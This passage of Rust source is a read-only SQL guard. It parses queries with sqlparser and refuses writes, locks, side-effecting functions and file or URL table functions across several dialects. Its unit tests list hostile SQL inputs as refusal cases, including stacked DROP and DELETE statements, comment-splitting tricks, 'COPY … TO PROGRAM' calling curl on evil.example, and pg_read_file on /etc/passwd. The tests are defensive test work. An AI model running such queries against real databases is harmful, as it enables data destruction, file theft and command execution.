            Dialect::MySql | Dialect::ClickHouse | Dialect::DuckDb
        ) {
            return;
        }
        self.calls.functions.insert(FunctionCall {
            schema: None,
            name: self.lookup_name(ident),
            args: Some(1),
            field_notation: true,
        });
    }

    fn note_operator(&mut self, schema: Option<String>, symbol: String) {
        // Words (AND, OR, OVERLAPS) are grammar, not catalog operators.
        if !symbol.is_empty() && symbol.chars().all(|c| "+-*/<>=~!@#%^&|`?".contains(c)) {
            self.calls.operators.insert(OperatorUse { schema, symbol });
        }
    }

    fn note_binary_operator(&mut self, op: &BinaryOperator) {
        match op {
            BinaryOperator::PGCustomBinaryOperator(parts) => {
                let (symbol, schema) = match parts.as_slice() {
                    [.., schema, symbol] => (symbol.clone(), Some(schema.to_ascii_lowercase())),
                    [symbol] => (symbol.clone(), None),
                    [] => return,
                };
                self.note_operator(schema, symbol);
            }
            other => self.note_operator(None, other.to_string()),
        }
    }
}

/// How many arguments a call's list holds (`count(*)` has none).
fn argument_count(args: &FunctionArguments) -> Option<usize> {
    match args {
        FunctionArguments::List(FunctionArgumentList { args, .. }) => Some(
            args.iter()
                .filter(|a| {
                    !matches!(
                        a,
                        sqlparser::ast::FunctionArg::Unnamed(
                            sqlparser::ast::FunctionArgExpr::Wildcard
                        )
                    )
                })
                .count(),
        ),
        FunctionArguments::Subquery(_) => Some(1),
        FunctionArguments::None => None,
    }
}

impl Visitor for Checker {
    type Break = Error;

    fn pre_visit_query(&mut self, query: &Query) -> ControlFlow<Error> {
        if let Some(with) = &query.with {
            for cte in &with.cte_tables {
                if let Some(kind) = write_kind(&cte.query.body) {
                    return ControlFlow::Break(refuse(format!(
                        "data-modifying CTE \"{}\" ({kind})",
                        cte.alias.name.value
                    )));
                }
            }
        }
        if let Some(lock) = query.locks.first() {
            return ControlFlow::Break(refuse(format!(
                "locking clause {lock} is not allowed (tdb only reads)"
            )));
        }
        if query.settings.is_some() {
            return ControlFlow::Break(refuse(
                "SETTINGS is not allowed: tdb's ClickHouse session is readonly=1, under which \
                 a query may change no setting (the source's statement_timeout_s sets \
                 max_execution_time)",
            ));
        }
        if query.for_clause.is_some()
            || query.format_clause.is_some()
            || !query.pipe_operators.is_empty()
        {
            return ControlFlow::Break(refuse("unsupported clause after the query"));
        }
        if contains_table_command(&query.body) {
            return ControlFlow::Break(refuse(TABLE_ONLY_ALONE));
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_select(&mut self, select: &Select) -> ControlFlow<Error> {
        if select.into.is_some() {
            return ControlFlow::Break(refuse("SELECT … INTO is not allowed (it creates a table)"));
        }
        ControlFlow::Continue(())
    }

    /// Any statement met inside the query is a write hiding in a subquery.
    fn pre_visit_statement(&mut self, statement: &Statement) -> ControlFlow<Error> {
        ControlFlow::Break(refuse(format!(
            "data-modifying statement ({}) inside the query",
            statement_kind(statement)
        )))
    }

    fn pre_visit_expr(&mut self, expr: &Expr) -> ControlFlow<Error> {
        // Method-style calls (`x.f()`) are `Expr::Function`s inside field access, so the
        // visitor reaches them here too.
        match expr {
            // `CURRENT_USER`, `LOCALTIME`…: SQL keywords, not catalog functions.
            Expr::Function(function) if matches!(function.args, FunctionArguments::None) => {
                ControlFlow::Continue(())
            }
            Expr::Function(function) => {
                self.check_function_name(&function.name, argument_count(&function.args))
            }
            // Parsed apart by sqlparser, but ordinary catalog functions to PostgreSQL (the
            // grammar's EXTRACT, POSITION, SUBSTRING, TRIM and OVERLAY name pg_catalog's).
            Expr::Ceil { .. } => {
                self.check_function_name(&ObjectName::from(vec![Ident::new("ceil")]), Some(1))
            }
            Expr::Floor { .. } => {
                self.check_function_name(&ObjectName::from(vec![Ident::new("floor")]), Some(1))
            }
            Expr::Convert { .. } => {
                self.check_function_name(&ObjectName::from(vec![Ident::new("convert")]), None)
            }
            Expr::CompoundIdentifier(idents) if idents.len() > 1 => {
                if let Some(last) = idents.last() {
                    self.note_field_access(last);
                }
                ControlFlow::Continue(())
            }
            Expr::CompoundFieldAccess { access_chain, .. } => {
                for access in access_chain {
                    if let AccessExpr::Dot(Expr::Identifier(ident)) = access {
                        self.note_field_access(ident);
                    }
                }
                ControlFlow::Continue(())
            }
            // MySQL's `@var := …` (also refused over the tokens).
            Expr::BinaryOp {
                op: BinaryOperator::Assignment,
                ..
            } if self.dialect == Dialect::MySql => ControlFlow::Break(refuse(
                "assigning a user variable (@var := …) is not allowed (tdb only reads)",
            )),
            Expr::BinaryOp { op, .. } => {
                self.note_binary_operator(op);
                ControlFlow::Continue(())
            }
            Expr::AnyOp { compare_op, .. } | Expr::AllOp { compare_op, .. } => {
                self.note_binary_operator(compare_op);
                ControlFlow::Continue(())
            }
            Expr::UnaryOp { op, .. } => {
                self.note_operator(None, op.to_string());
                ControlFlow::Continue(())
            }
            Expr::Like { .. } | Expr::ILike { .. } | Expr::SimilarTo { .. } => {
                for symbol in ["~~", "~~*", "!~~", "!~~*", "~", "!~"] {
                    self.note_operator(None, symbol.to_string());
                }
                ControlFlow::Continue(())
            }
            Expr::Cast { data_type, .. } => {
                self.calls.casts.insert(data_type.to_string());
                ControlFlow::Continue(())
            }
            Expr::TypedString(typed) => {
                self.calls.casts.insert(typed.data_type.to_string());
                ControlFlow::Continue(())
            }
            _ => ControlFlow::Continue(()),
        }
    }

    /// Table functions in FROM and LATERAL are calls too.
    fn pre_visit_table_factor(&mut self, factor: &TableFactor) -> ControlFlow<Error> {
        // sqlparser reads PostgreSQL's `FROM ONLY t` as a table named ONLY aliased t, a
        // tree that differs from the server's; ONLY is reserved there, so no real table
        // has that name unquoted.
        if self.dialect == Dialect::Postgres
            && let TableFactor::Table { name, .. } = factor
            && let [ObjectNamePart::Identifier(ident)] = name.0.as_slice()
            && ident.quote_style.is_none()
            && ident.value.eq_ignore_ascii_case("only")
        {
            return ControlFlow::Break(refuse(
                "FROM ONLY … is not supported; name the table without ONLY",
            ));
        }
        // ClickHouse's and DuckDB's table functions reach other servers, files and URLs:
        // only those known to read inside the engine are let through.
        let allowed: Option<&[&str]> = match self.dialect {
            Dialect::ClickHouse => Some(clickhouse::TABLE_FUNCTIONS),
            Dialect::DuckDb => Some(duckdb::TABLE_FUNCTIONS),
            Dialect::Postgres | Dialect::Sqlite | Dialect::MySql => None,
        };
        if let Some(list) = allowed {
            let function = match factor {
                TableFactor::Table {
                    name,
                    args: Some(_),
                    ..
                }
                | TableFactor::Function { name, .. } => Some(name),
                _ => None,
            };
            if let Some(name) = function {
                let last = name.0.last().and_then(ObjectNamePart::as_ident);
                let known = |i: &Ident| list.contains(&i.value.to_ascii_lowercase().as_str());
                if name.0.len() != 1 || !last.is_some_and(known) {
                    return ControlFlow::Break(refuse(format!(
                        "the query reads from the table function {name}; only {} are allowed",
                        list.join(", ")
                    )));
                }
            }
        }
        // DuckDB reads a table named like a file (`FROM 'x.csv'`) as that file.
        if self.dialect == Dialect::DuckDb
            && let TableFactor::Table { name, .. } = factor
            && let Some(ident) = duckdb::names_a_path(name)
        {
            return ControlFlow::Break(refuse(format!(
                "the query reads from {ident}, a name DuckDB would read as a file path; tdb \
                 reads only the source's files (`data`)"
            )));
        }
        match factor {
            TableFactor::Table {
                name,
                args: Some(args),
                ..
            } => self.check_function_name(name, Some(args.args.len())),
            TableFactor::Function { name, args, .. } => {
                self.check_function_name(name, Some(args.len()))
            }
            _ => ControlFlow::Continue(()),
        }
    }
}

fn write_kind(body: &SetExpr) -> Option<&'static str> {
    match body {
        SetExpr::Insert(_) => Some("INSERT"),
        SetExpr::Update(_) => Some("UPDATE"),
        SetExpr::Delete(_) => Some("DELETE"),
        SetExpr::Merge(_) => Some("MERGE"),
        _ => None,
    }
}

fn statement_kind(statement: &Statement) -> &'static str {
    match statement {
        Statement::Insert(_) => "INSERT",
        Statement::Update(_) => "UPDATE",
        Statement::Delete(_) => "DELETE",
        Statement::Merge(_) => "MERGE",
        Statement::Query(_) => "query",
        _ => "statement",
    }
}

/// Nested `TABLE x` branches of set operations; parenthesised queries are checked when
/// the visitor reaches them.
fn contains_table_command(body: &SetExpr) -> bool {
    match body {
        SetExpr::Table(_) => true,
        SetExpr::SetOperation { left, right, .. } => {
            contains_table_command(left) || contains_table_command(right)
        }
        _ => false,
    }
}

/// Whether `ident` names the `data` alias: in PostgreSQL unquoted `data` in any case or
/// exactly `"data"`; in SQLite, where quoting does not make names case-sensitive, any
/// spelling of `data`.
fn is_data_ident(ident: &Ident, dialect: Dialect) -> bool {
    match (dialect, ident.quote_style) {
        (Dialect::Postgres, Some(_)) => ident.value == "data",
        _ => ident.value.eq_ignore_ascii_case("data"),
    }
}

/// A `data` reference that was resolved: where it was written, and whether an alias had to
/// be added.
struct DataSite {
    span: Span,
    add_alias: bool,
}

/// Replaces each unqualified table reference `data` that no CTE in scope shadows by the
/// source's table, keeping `data` as the alias so `data.col` still resolves (unless `alias`
/// is false: `TABLE data` takes none and needs none).
fn resolve_data_alias(
    query: &mut Query,
    dialect: Dialect,
    table: &TableName,
    alias: bool,
) -> Vec<DataSite> {
    let mut resolver = DataAlias {
        dialect,
        target: target_name(table, dialect),
        alias,
        scopes: Vec::new(),
        cte_scopes: HashMap::new(),
        sites: Vec::new(),
    };
    // The resolver never breaks.
    let _ = query.visit(&mut resolver);
    resolver.sites
}

fn target_name(table: &TableName, dialect: Dialect) -> ObjectName {
    let quote = quote_char(dialect);
    let mut parts = Vec::with_capacity(2);
    if let Some(schema) = &table.schema {
        parts.push(Ident::with_quote(quote, schema.as_str()));
    }
    parts.push(Ident::with_quote(quote, table.name.as_str()));
    ObjectName::from(parts)
}

/// MySQL quotes names with backticks (`"` writes a string there).
fn quote_char(dialect: Dialect) -> char {
    match dialect {
        Dialect::MySql => '`',
        Dialect::Postgres | Dialect::Sqlite | Dialect::ClickHouse | Dialect::DuckDb => '"',
    }
}

/// The table's name as it is spliced into the SQL. sqlparser prints a doubled quote inside
/// a name as it stands, so MySQL's names are quoted here, each backtick doubled.
fn target_text(table: &TableName, dialect: Dialect) -> String {
    match dialect {
        Dialect::MySql => {
            let quote = |name: &str| format!("`{}`", name.replace('`', "``"));
            match &table.schema {
                Some(schema) => format!("{}.{}", quote(schema), quote(&table.name)),
                None => quote(&table.name),
            }
        }
        Dialect::Postgres | Dialect::Sqlite | Dialect::ClickHouse | Dialect::DuckDb => {
            target_name(table, dialect).to_string()
        }
    }
}

/// Tracks, per query on the walk, whether a CTE named `data` is visible there.
struct DataAlias {
    dialect: Dialect,
    target: ObjectName,
    alias: bool,
    /// One entry per query being walked: is `data` shadowed inside it?
    scopes: Vec<bool>,
    /// CTE bodies not yet reached, by address, with whether `data` is shadowed in them.
    /// A CTE body sees only the CTEs before it unless the WITH is recursive.
    cte_scopes: HashMap<*const Query, bool>,
    sites: Vec<DataSite>,
}

impl VisitorMut for DataAlias {
    type Break = ();

    fn pre_visit_query(&mut self, query: &mut Query) -> ControlFlow<()> {
        let key: *const Query = query;
        let outer = self
            .cte_scopes
            .remove(&key)
            .unwrap_or_else(|| self.scopes.last().copied().unwrap_or(false));
        let mut inner = outer;
        if let Some(with) = &query.with {
            // SQLite lets a CTE see all of its WITH list, RECURSIVE or not.
            let sees_all = with.recursive || self.dialect == Dialect::Sqlite;
            let names_data = with
                .cte_tables
                .iter()
                .map(|cte| is_data_ident(&cte.alias.name, self.dialect))
                .collect::<Vec<_>>();
            let any = names_data.contains(&true);
            for (i, cte) in with.cte_tables.iter().enumerate() {
                let earlier = names_data[..i].contains(&true);
                let body: *const Query = &*cte.query;
                self.cte_scopes
                    .insert(body, outer || if sees_all { any } else { earlier });
            }
            inner = outer || any;
        }
        self.scopes.push(inner);
        ControlFlow::Continue(())
    }

    fn post_visit_query(&mut self, _query: &mut Query) -> ControlFlow<()> {
        self.scopes.pop();
        ControlFlow::Continue(())
    }

    fn pre_visit_table_factor(&mut self, factor: &mut TableFactor) -> ControlFlow<()> {
        let shadowed = self.scopes.last().copied().unwrap_or(false);
        if shadowed {
            return ControlFlow::Continue(());
        }
        if let TableFactor::Table {
            name,
            alias,
            args: None,
            ..
        } = factor
            && let [ObjectNamePart::Identifier(ident)] = name.0.as_slice()
            && is_data_ident(ident, self.dialect)
        {
            let add_alias = self.alias && alias.is_none();
            self.sites.push(DataSite {
                span: ident.span,
                add_alias,
            });
            if add_alias {
                *alias = Some(TableAlias {
                    explicit: true,
                    name: ident.clone(),
                    columns: Vec::new(),
                    at: None,
                });
            }
            *name = self.target.clone();
        }
        ControlFlow::Continue(())
    }
}

/// Gives a query without a row limit of its own `LIMIT limit+1`, so the connector can tell
/// a truncated result from a complete one; a limit the user wrote is kept. Returns whether
/// the tree changed.
fn apply_limit(query: &mut Query, dialect: Dialect, limit: usize) -> bool {
    if query.fetch.is_some() {
        return false;
    }
    let wanted = Expr::value(Value::Number((limit + 1).to_string(), false));
    match &mut query.limit_clause {
        None => {
            query.limit_clause = Some(LimitClause::LimitOffset {
                limit: Some(wanted),
                offset: None,
                limit_by: Vec::new(),
            });
            true
        }
        Some(LimitClause::LimitOffset { limit: user, .. }) => {
            if user.as_ref().is_none_or(|e| means_no_limit(e, dialect)) {
                *user = Some(wanted);
                true
            } else {
                false
            }
        }
        Some(LimitClause::OffsetCommaLimit { .. }) => false,
    }
}

/// `LIMIT ALL` (no expression), `LIMIT NULL`, and in SQLite a negative literal, all mean
/// "every row".
fn means_no_limit(expr: &Expr, dialect: Dialect) -> bool {
    match expr {
        Expr::Value(v) => matches!(v.value, Value::Null),
        Expr::UnaryOp {
            op: UnaryOperator::Minus,
            expr,
        } => dialect == Dialect::Sqlite && matches!(**expr, Expr::Value(_)),
        Expr::Nested(inner) => means_no_limit(inner, dialect),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const PG: GuardPolicy = GuardPolicy {
        dialect: Dialect::Postgres,
        denied: POSTGRES_DENIED,
    };
    const LITE: GuardPolicy = GuardPolicy {
        dialect: Dialect::Sqlite,
        denied: SQLITE_DENIED,
    };

    fn orders() -> TableName {
        TableName {
            schema: Some("public".into()),
            name: "orders".into(),
        }
    }

    fn run(policy: GuardPolicy, sql: &str) -> Result<Guarded> {
        guard(sql, &policy, Some(&orders()), DEFAULT_LIMIT)
    }

    fn executed(policy: GuardPolicy, sql: &str) -> String {
        match run(policy, sql) {
            Ok(g) => g.executed_sql,
            Err(e) => panic!("{sql:?} was refused: {e}"),
        }
    }

    fn refusal(policy: GuardPolicy, sql: &str) -> String {
        match run(policy, sql) {
            Err(Error::Rejected(m)) => m.to_string(),
            other => panic!("{sql:?} was not refused: {other:?}"),
        }
    }

    /// One test per hostile input: `name: dialect, sql => a fragment of the refusal`.
    macro_rules! refused {
        ($($name:ident: $dialect:expr, $sql:expr => $fragment:expr;)+) => {$(
            #[test]
            fn $name() {
                let msg = refusal($dialect, $sql);
                assert!(msg.contains($fragment), "{:?}: want {:?} in {:?}", $sql, $fragment, msg);
            }
        )+};
    }

    /// One test per statement that is not a query: the seed's exact message.
    macro_rules! not_a_query {
        ($($name:ident: $dialect:expr, $sql:expr;)+) => {$(
            #[test]
            fn $name() {
                assert_eq!(
                    refusal($dialect, $sql),
                    "SQL validation failed: Only SELECT statements are allowed",
                    "{:?}",
                    $sql
                );
            }
        )+};
    }

    /// One test per accepted input, with the exact SQL that will run.
    macro_rules! passes {
        ($($name:ident: $dialect:expr, $sql:expr => $expected:expr;)+) => {$(
            #[test]
            fn $name() {
                assert_eq!(executed($dialect, $sql), $expected, "{:?}", $sql);
            }
        )+};
    }

    // ---- hostile: more than one statement, comment and quote tricks ----

    refused! {
        multi_select_then_delete: PG, "SELECT 1; DELETE FROM orders" => "multiple statements are not allowed (found 2)";
        multi_delete_after_line_comment_on_next_line: PG, "SELECT 1; -- \nDELETE FROM orders" => "(found 2)";
        multi_commit_then_drop: PG, "SELECT 1; COMMIT; DROP TABLE orders" => "(found 3)";
        multi_semicolon_in_block_comment_does_not_merge: PG, "SELECT 1 /* ; */; DELETE FROM orders" => "(found 2)";
        multi_semicolon_in_string_is_one_statement_but_second_is_real: PG, "SELECT ';'; DELETE FROM orders" => "(found 2)";
        multi_sqlite_then_attach: LITE, "SELECT 1; ATTACH DATABASE '/tmp/x.db' AS x" => "(found 2)";
        multi_sqlite_then_pragma: LITE, "SELECT 1; PRAGMA writable_schema = 1" => "(found 2)";
        comment_split_keyword_after_select_is_a_second_statement: PG, "SELECT 1; DEL/**/ETE FROM orders" => "multiple statements are not allowed";
        nul_character: PG, "SELECT 1\0; DROP TABLE orders" => "NUL character";
        nul_character_in_comment: LITE, "SELECT 1 -- \0" => "NUL character";
        unicode_escaped_identifier_pg: PG, "SELECT U&\"\\006Eextval\"('s')" => "Unicode-escaped identifiers";
        unterminated_string_is_parse_error: PG, "SELECT 'abc" => "could not parse SQL: Unterminated string literal";
        unterminated_dollar_quote_is_parse_error: PG, "SELECT $$abc" => "could not parse SQL";
        empty_sql: PG, "" => "no SQL statement found";
        only_a_comment: PG, "-- SELECT 1" => "no SQL statement found";
        only_semicolons: LITE, " ; ;" => "no SQL statement found";
        table_inside_set_operation: PG, "SELECT 1 UNION TABLE orders" => "TABLE is only supported at the start of the statement";
        nesting_too_deep_is_parse_error: PG, &format!("SELECT {}1{}", "(".repeat(200), ")".repeat(200)) => "nested too deeply";
    }

    not_a_query! {
        comment_split_keyword_alone: PG, "DEL/**/ETE FROM orders";
        block_comment_before_delete: PG, "/* SELECT */ DELETE FROM orders";
    }

    // ---- hostile: writes hidden in CTEs and subqueries ----

    refused! {
        cte_delete_unreferenced: PG, "WITH d AS (DELETE FROM orders RETURNING *) SELECT 1" => "data-modifying CTE \"d\" (DELETE)";
        cte_insert_referenced: PG, "WITH i AS (INSERT INTO orders (id) VALUES (1) RETURNING id) SELECT * FROM i" => "data-modifying CTE \"i\" (INSERT)";
        cte_update: PG, "WITH u AS (UPDATE orders SET total = 0 RETURNING *) SELECT count(*) FROM u" => "data-modifying CTE \"u\" (UPDATE)";
        cte_merge: PG, "WITH m AS (MERGE INTO orders o USING s ON o.id = s.id WHEN MATCHED THEN DELETE RETURNING *) SELECT 1" => "data-modifying CTE \"m\" (MERGE)";
        cte_delete_second_in_list: PG, "WITH a AS (SELECT 1), d AS (DELETE FROM orders RETURNING 1) SELECT * FROM a" => "data-modifying CTE \"d\" (DELETE)";
        cte_delete_recursive: PG, "WITH RECURSIVE d AS (DELETE FROM orders RETURNING *) SELECT 1" => "data-modifying CTE \"d\" (DELETE)";
        cte_delete_nested_in_cte: PG, "WITH a AS (WITH d AS (DELETE FROM orders RETURNING 1) SELECT 1) SELECT * FROM a" => "data-modifying CTE \"d\" (DELETE)";
        cte_delete_in_where_subquery: PG, "SELECT 1 WHERE EXISTS (WITH d AS (DELETE FROM orders RETURNING 1) SELECT 1)" => "data-modifying CTE \"d\" (DELETE)";
        cte_delete_in_derived_table: PG, "SELECT * FROM (WITH d AS (DELETE FROM orders RETURNING 1) SELECT 1) s" => "data-modifying CTE \"d\" (DELETE)";
        cte_insert_in_union_branch: PG, "SELECT 1 UNION ALL (WITH i AS (INSERT INTO orders DEFAULT VALUES RETURNING 1) SELECT 2)" => "data-modifying CTE \"i\" (INSERT)";
        explain_data_modifying_cte: PG, "EXPLAIN ANALYZE WITH d AS (DELETE FROM orders RETURNING 1) SELECT 1" => "data-modifying CTE \"d\" (DELETE)";
        explain_denied_function: PG, "EXPLAIN ANALYZE SELECT pg_terminate_backend(1)" => "(backend signalling)";
        cte_delete_sqlite: LITE, "WITH d AS (DELETE FROM orders RETURNING *) SELECT 1" => "data-modifying CTE \"d\" (DELETE)";
        write_statement_in_derived_table: PG, "SELECT * FROM (WITH x AS (SELECT 1) DELETE FROM orders RETURNING *) s" => "data-modifying statement (DELETE) inside the query";
        select_into: PG, "SELECT * INTO stolen FROM orders" => "SELECT … INTO is not allowed";
        select_into_temp: PG, "SELECT * INTO TEMP stolen FROM orders" => "SELECT … INTO is not allowed";
        select_into_in_union_branch: PG, "SELECT 1 UNION SELECT 2 INTO stolen" => "SELECT … INTO is not allowed";
        select_into_inside_cte: PG, "WITH a AS (SELECT 1 INTO stolen) SELECT 1" => "SELECT … INTO is not allowed";
    }

    not_a_query! {
        with_then_delete: PG, "WITH x AS (SELECT 1) DELETE FROM orders";
        with_then_insert: PG, "WITH x AS (SELECT 1) INSERT INTO orders SELECT * FROM x";
        with_then_update: LITE, "WITH x AS (SELECT 1) UPDATE orders SET total = 0";
    }

    // ---- hostile: locking clauses ----

    refused! {
        lock_for_update: PG, "SELECT * FROM orders FOR UPDATE" => "locking clause FOR UPDATE is not allowed";
        lock_for_share_nowait: PG, "SELECT * FROM orders FOR SHARE NOWAIT" => "locking clause FOR SHARE NOWAIT";
        lock_for_update_of_skip_locked: PG, "SELECT * FROM orders FOR UPDATE OF orders SKIP LOCKED" => "FOR UPDATE OF orders SKIP LOCKED";
        lock_before_limit: PG, "SELECT * FROM orders FOR UPDATE LIMIT 1" => "locking clause FOR UPDATE";
        lock_in_derived_table: PG, "SELECT * FROM (SELECT * FROM orders FOR UPDATE) s" => "locking clause FOR UPDATE";
        lock_in_cte: PG, "WITH l AS (SELECT * FROM orders FOR SHARE) SELECT * FROM l" => "locking clause FOR SHARE";
        lock_in_where_subquery: PG, "SELECT 1 WHERE 1 IN (SELECT id FROM orders FOR UPDATE)" => "locking clause FOR UPDATE";
        lock_for_no_key_update_refused_over_tokens: PG, "SELECT * FROM orders FOR NO KEY UPDATE" => "UPDATE is not allowed";
        lock_for_key_share_refused_over_tokens: PG, "SELECT * FROM orders FOR KEY SHARE" => "SHARE is not allowed";
    }

    // ---- hostile: statements that are not queries (the seed's message) ----

    not_a_query! {
        copy_to_file: PG, "COPY orders TO '/tmp/orders.csv'";
        copy_query_to_program: PG, "COPY (SELECT 1) TO PROGRAM 'curl evil.example'";
        copy_from_stdin: PG, "COPY orders FROM STDIN";
        set_statement_timeout: PG, "SET statement_timeout = 0";
        set_role: PG, "SET ROLE postgres";
        set_session_authorization: PG, "SET SESSION AUTHORIZATION postgres";
        set_transaction_read_write: PG, "SET TRANSACTION READ WRITE";
        reset_all: PG, "RESET ALL";
        begin: PG, "BEGIN";
        start_transaction_read_write: PG, "START TRANSACTION READ WRITE";
        commit: PG, "COMMIT";
        rollback: PG, "ROLLBACK";
        savepoint: PG, "SAVEPOINT s";
        release_savepoint: PG, "RELEASE SAVEPOINT s";
        do_block: PG, "DO $$ BEGIN DELETE FROM orders; END $$";
        call_procedure: PG, "CALL cleanup()";
        prepare_delete: PG, "PREPARE p AS DELETE FROM orders";
        execute_prepared: PG, "EXECUTE p";
        listen: PG, "LISTEN channel";
        notify: PG, "NOTIFY channel, 'x'";
        unlisten: PG, "UNLISTEN *";
        vacuum: PG, "VACUUM orders";
        vacuum_full: PG, "VACUUM FULL";
        analyze: PG, "ANALYZE orders";
        explain_analyze_delete: PG, "EXPLAIN ANALYZE DELETE FROM orders";
        explain_with_delete: PG, "EXPLAIN WITH x AS (SELECT 1) DELETE FROM orders";
        describe_is_not_explain: PG, "DESCRIBE SELECT 1";
        sqlite_show_is_not_a_query: LITE, "SHOW search_path";
        create_table: PG, "CREATE TABLE t (id int)";
        create_table_as: PG, "CREATE TABLE t AS SELECT * FROM orders";
        create_function: PG, "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql";
        create_extension: PG, "CREATE EXTENSION dblink";
        alter_table: PG, "ALTER TABLE orders ADD COLUMN x int";
        alter_system: PG, "ALTER SYSTEM SET log_statement = 'none'";
        drop_table: PG, "DROP TABLE orders";
        grant: PG, "GRANT ALL ON orders TO public";
        revoke: PG, "REVOKE ALL ON orders FROM public";
        truncate: PG, "TRUNCATE orders";
        insert: PG, "INSERT INTO orders (id) VALUES (1)";
        update: PG, "UPDATE orders SET total = 0";
        delete: PG, "DELETE FROM orders";
        merge: PG, "MERGE INTO orders o USING s ON o.id = s.id WHEN MATCHED THEN DELETE";
        lock_table: PG, "LOCK TABLE orders";
        discard_all: PG, "DISCARD ALL";
        checkpoint: PG, "CHECKPOINT";
        reindex: PG, "REINDEX TABLE orders";
        cluster: PG, "CLUSTER orders";
        refresh_materialized_view: PG, "REFRESH MATERIALIZED VIEW v";
        load_library: PG, "LOAD 'plugin'";
        declare_cursor: PG, "DECLARE c CURSOR FOR SELECT 1";
        fetch_cursor: PG, "FETCH c";
        comment_on: PG, "COMMENT ON TABLE orders IS 'x'";
        lowercase_delete: PG, "delete from orders";
        sqlite_attach: LITE, "ATTACH DATABASE '/tmp/x.db' AS x";
        sqlite_detach: LITE, "DETACH x";
        sqlite_pragma_write: LITE, "PRAGMA writable_schema = 1";
        sqlite_pragma_read_is_not_a_select: LITE, "PRAGMA journal_mode";
        sqlite_vacuum_into: LITE, "VACUUM INTO '/tmp/copy.db'";
        sqlite_replace_into: LITE, "REPLACE INTO orders VALUES (1)";
        sqlite_insert: LITE, "INSERT INTO orders VALUES (1)";
        sqlite_create_trigger: LITE, "CREATE TRIGGER t AFTER INSERT ON orders BEGIN DELETE FROM orders; END";
        sqlite_drop_table: LITE, "DROP TABLE orders";
        sqlite_begin_immediate: LITE, "BEGIN IMMEDIATE";
    }

    // ---- hostile: functions with side effects, wherever they are called ----

    refused! {
        fn_terminate_backend_in_select_list: PG, "SELECT pg_terminate_backend(pid) FROM pg_stat_activity" => "calls pg_terminate_backend (backend signalling)";
        fn_cancel_backend_in_where: PG, "SELECT 1 FROM pg_stat_activity WHERE pg_cancel_backend(pid)" => "calls pg_cancel_backend (backend signalling)";
        fn_schema_qualified: PG, "SELECT pg_catalog.pg_terminate_backend(1)" => "calls pg_catalog.pg_terminate_backend (backend signalling)";
        fn_mixed_case: PG, "SELECT PG_Terminate_Backend(1)" => "calls PG_Terminate_Backend (backend signalling)";
        fn_quoted: PG, "SELECT \"pg_terminate_backend\"(1)" => "(backend signalling)";
        fn_quoted_uppercase_refused_too: PG, "SELECT pg_catalog.\"PG_TERMINATE_BACKEND\"(1)" => "(backend signalling)";
        fn_comment_before_parenthesis: PG, "SELECT pg_terminate_backend/* x */(1)" => "(backend signalling)";
        fn_log_memory_contexts: PG, "SELECT pg_log_backend_memory_contexts(1)" => "(backend signalling)";
        fn_set_config: PG, "SELECT set_config('statement_timeout', '0', false)" => "calls set_config (configuration setters)";
        fn_reload_conf: PG, "SELECT pg_reload_conf()" => "(configuration setters)";
        fn_advisory_lock_in_order_by: PG, "SELECT id FROM orders ORDER BY pg_advisory_lock(id)" => "calls pg_advisory_lock (advisory locks)";
        fn_try_advisory_lock_in_having: PG, "SELECT count(*) FROM orders GROUP BY country HAVING pg_try_advisory_xact_lock(1)" => "(advisory locks)";
        fn_advisory_lock_in_filter: PG, "SELECT count(*) FILTER (WHERE pg_advisory_lock(1) IS NULL) FROM orders" => "(advisory locks)";
        fn_advisory_unlock_in_group_by: PG, "SELECT 1 FROM orders GROUP BY pg_advisory_unlock_all()" => "(advisory locks)";
        fn_lo_import_in_scalar_subquery: PG, "SELECT * FROM orders WHERE id = (SELECT lo_import('/etc/passwd'))" => "calls lo_import (large objects)";
        fn_lo_export: PG, "SELECT lo_export(16384, '/tmp/x')" => "(large objects)";
        fn_lowrite: PG, "SELECT lowrite(0, 'x')" => "(large objects)";
        // If sqlparser read `e'…'` as a word and a standard string, the quote escaped by `\'`
        // would end its string early and hide the call that PostgreSQL runs.
        fn_after_lowercase_escape_string: PG, "SELECT e'\\'' , pg_terminate_backend(1) -- '" => "(backend signalling)";
        fn_after_comment_ended_by_carriage_return: PG, "SELECT 1 -- note\r, pg_terminate_backend(1)" => "(backend signalling)";
        fn_after_nested_comment: PG, "SELECT 1 /* a /* b */ c */, pg_terminate_backend(1)" => "(backend signalling)";
        fn_in_identifier_with_dollars_is_not_a_dollar_quote: PG, "SELECT x$$, pg_terminate_backend(1), y$$ FROM t" => "(backend signalling)";
        fn_behind_between_symmetric: PG, "SELECT 1 BETWEEN SYMMETRIC pg_terminate_backend(1) AND 2" => "(backend signalling)";
        fn_behind_group_by_distinct: PG, "SELECT 1 GROUP BY DISTINCT pg_advisory_lock(1)" => "(advisory locks)";
        fn_after_uescape: PG, "SELECT U&'!0061' UESCAPE '!', nextval('s')" => "(sequences)";
        lock_after_for_read_only: PG, "SELECT * FROM orders FOR READ ONLY FOR UPDATE" => "locking clause FOR UPDATE";
        fn_hidden_behind_from_only_pg: PG, "SELECT * FROM ONLY pg_ls_dir(x)" => "calls pg_ls_dir (server files and programs)";
        fn_read_file_in_from: PG, "SELECT * FROM pg_read_file('/etc/passwd')" => "calls pg_read_file (server files and programs)";
        fn_ls_dir_lateral: PG, "SELECT * FROM orders, LATERAL pg_ls_dir('.') AS f" => "calls pg_ls_dir (server files and programs)";
        fn_ls_waldir_cross_join_lateral: PG, "SELECT * FROM orders CROSS JOIN LATERAL pg_ls_waldir() w" => "(server files and programs)";
        fn_read_binary_file_in_cte: PG, "WITH f AS (SELECT pg_read_binary_file('/etc/passwd') AS b) SELECT * FROM f" => "(server files and programs)";
        fn_stat_file_in_case: PG, "SELECT CASE WHEN true THEN pg_stat_file('base') END" => "(server files and programs)";
        fn_read_file_in_xmltable: PG, "SELECT * FROM XMLTABLE('/x' PASSING pg_read_file('/etc/passwd') COLUMNS a int)" => "(server files and programs)";
        fn_dblink_exec: PG, "SELECT dblink_exec('dbname=prod', 'DROP TABLE orders')" => "calls dblink_exec (dblink and foreign execution)";
        fn_dblink_in_from: PG, "SELECT * FROM dblink('dbname=prod', 'DELETE FROM orders RETURNING 1') AS t(x int)" => "(dblink and foreign execution)";
        fn_query_to_xml_runs_sql_text: PG, "SELECT query_to_xml('DELETE FROM orders RETURNING 1', true, false, '')" => "calls query_to_xml (dblink and foreign execution)";
